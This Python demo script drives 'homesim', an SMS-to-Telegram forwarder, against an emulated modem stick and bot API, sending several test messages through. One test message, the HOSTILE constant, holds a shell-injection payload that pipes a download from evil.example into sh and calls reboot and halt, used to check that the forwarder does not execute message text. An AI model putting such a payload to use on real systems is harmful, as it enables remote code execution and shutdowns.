#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""The main job, shown on an emulated stick: a few SMS arrive, bin/poll forwards them, the chat is printed.

Nothing of it is real but homesim itself and libgammu: the stick is a pty (stick.py), Telegram is a server on
this machine (botapi.py). Ends with 0 when every SMS is in the chat and none is left on the stick.
"""

from __future__ import annotations

import argparse
import sys
import time

import pdus
from emulators.botapi.server import BotApi, show
from rig import Rig, now

LONG = (
    "Уважаемый клиент! Ваша посылка прибыла в пункт выдачи. Срок хранения семь дней. "
    "Для получения возьмите паспорт. График работы: с 9 до 21 без выходных. "
)
HOSTILE = "'; curl evil.example | sh; echo $(reboot) `halt` <b>bold?</b> *_[]()~`> {0} %s"


def arrivals() -> list[tuple[str, list[str], str]]:
    """What arrives: said in words, as PDUs, and by what one knows it in the chat."""
    return [
        ("a bank's code", [pdus.deliver("482913 ist Ihre TAN. Nie weitergeben!", "Sparkasse", time=now())], "482913"),
        ("a long one in Cyrillic", pdus.long_sms(LONG, "+79161234567", reference=7, time=now()), "выходных"),
        ("emoji", [pdus.deliver("Happy birthday! 🎂🥳 See you ~ soon", "+491701234567", time=now())], "🥳"),
        ("a hostile one", [pdus.deliver(HOSTILE, "+15550100", time=now())], "$(reboot)"),
        ("one that no reader decodes", [pdus.deliver("x", "+15550101", time=now(), dcs=0x20)], "cannot be decoded"),
    ]


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--profile", default="E3372", help="the emulated stick; default: %(default)s")
    arguments = parser.parse_args(argv)
    with Rig(sys.executable, profile=arguments.profile, latency=0.02) as rig:
        print(f"An emulated Huawei {arguments.profile} is plugged in. bin/poll watches it, as cron would start it.\n")
        with rig.lingering():
            for words, parts, mark in arrivals():
                _arrive(rig, words, parts, mark)
            _ring(rig)
            rig.stick.wait_for(lambda stick: not stick.stored())
            rig.settle()
        print(f"{len(rig.api.sent)} messages in the chat, none left on the stick, none in the spool.")
    return 0


def _arrive(rig: Rig, words: str, parts: list[str], mark: str) -> None:
    before = time.monotonic()
    for pdu in parts:
        rig.stick.deliver(pdu)
    count = f" ({len(parts)} parts)" if len(parts) > 1 else ""

    def there(api: BotApi) -> bool:
        return any(mark in sent.text for sent in api.sent)

    rig.api.wait_for(there)
    sent = next(sent for sent in rig.api.sent if mark in sent.text)
    print(f"--- {words}{count}: in the chat {sent.time - before:.2f} s after it reached the stick")
    print(show(sent), end="\n\n")


def _ring(rig: Rig) -> None:
    rig.stick.call("+4930123456", rings=2)
    rig.api.wait_for(lambda api: "+4930123456" in api.text(), timeout=30)
    print(f"--- a call, rejected, in homesim's own words\n{show(rig.api.sent[-1])}", end="\n\n")


if __name__ == "__main__":
    sys.exit(main())
